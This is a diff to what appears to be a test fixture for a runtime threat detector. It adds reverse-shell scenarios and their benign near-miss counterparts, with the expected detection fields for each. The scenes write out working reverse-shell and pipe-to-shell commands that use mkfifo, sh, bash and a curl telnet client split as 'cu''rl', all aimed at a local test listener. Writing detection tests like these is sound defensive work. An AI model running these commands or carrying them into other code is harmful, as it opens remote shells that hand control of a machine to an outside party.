@@ -164,6 +164,14 @@ COPIER: Final = (
     "p = subprocess.Popen(['/bin/sh', '-i'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n"
     "p.communicate(b'exit\\n')"
 )
+SERVER: Final = (
+    'python3 -c \'import socket; l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen();'
+    ' print(l.getsockname()[1], flush=True); l.accept()[0].send(b"exit\\n")\' > port &'
+    " until [ -s port ]; do sleep 0.1; done; "
+)
+"""Sends a command to whoever connects to the port in the file."""
+CLIENT: Final = "cu''rl -sN telnet://127.0.0.1:$(cat port)"
+"""Not one word, since the shell that plays this would be told by itself."""
 RELAYS: Final = [
     Scene(
         "reverse-shell-by-a-relay",
@@ -175,12 +183,47 @@ RELAYS: Final = [
         severity="medium",
     ),
     Scene(
+        "reverse-shell-by-two-pipes",
+        "Execution:Runtime/ReverseShell",
+        f"{SERVER}mkfifo f; sh < f 2>&1 | {CLIENT} > f",
+        # Its commands come from a file.
+        f"{SERVER}echo : > x; mkfifo f; cat f & sh < x 2>&1 | {CLIENT} > f",
+        {
+            "evidence.rule": "piped_shell",
+            "context.connectedProcess.name": "curl",
+            "action.networkConnectionAction.remoteIpDetails.ipAddressV4": "127.0.0.1",
+        },
+        severity="high",
+    ),
+    Scene(
+        "reverse-shell-by-a-pipe-with-a-name",
+        "Execution:Runtime/ReverseShell",
+        f"{SERVER}mkfifo f; cat f | sh 2>&1 | {CLIENT} > f",
+        f"{SERVER}echo : | sh 2>&1 | {CLIENT}",
+        {"evidence.rule": "relayed_shell", "context.connectedProcess.name": "curl"},
+        severity="medium",
+    ),
+    Scene(
+        "commands-by-a-pipe",
+        f"Execution:{SUSPICIOUS}",
+        f"{SERVER}{CLIENT} | sh",
+        # The shell has a script, which reads what comes.
+        f"{SERVER}{CLIENT} | sh -c 'cat; true'",
+        {"evidence.rule": "piped_commands", "context.connectedProcess.name": "curl"},
+        severity="high",
+    ),
+    Scene(
+        "commands-by-several-pipes",
+        f"Execution:{SUSPICIOUS}",
+        f"{SERVER}{CLIENT} | cat | tr x x | bash -s -- word",
+        f"{SERVER}{CLIENT} | cat | tr x x > x; bash -s < x",
+        {"evidence.rule": "piped_commands", "context.pipes": ...},
+        severity="high",
+    ),
+    Scene(
         "reverse-shell-by-a-named-pipe",
         "Execution:Runtime/ReverseShell",
-        'python3 -c \'import socket; l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen();'
-        ' print(l.getsockname()[1], flush=True); l.accept()[0].send(b"exit\\n")\' > port &'
-        " until [ -s port ]; do sleep 0.1; done; mkfifo f;"
-        " cat f | sh -i 2>&1 | curl -sN telnet://127.0.0.1:$(cat port) > f",
+        f"{SERVER}mkfifo f; cat f | sh -i 2>&1 | {CLIENT} > f",
         "python3 -m http.server -b 127.0.0.1 0 & sleep 0.5; echo : | sh | cat; kill $!",
         {"action.networkConnectionAction.remoteIpDetails.ipAddressV4": "127.0.0.1"},
         severity="medium",
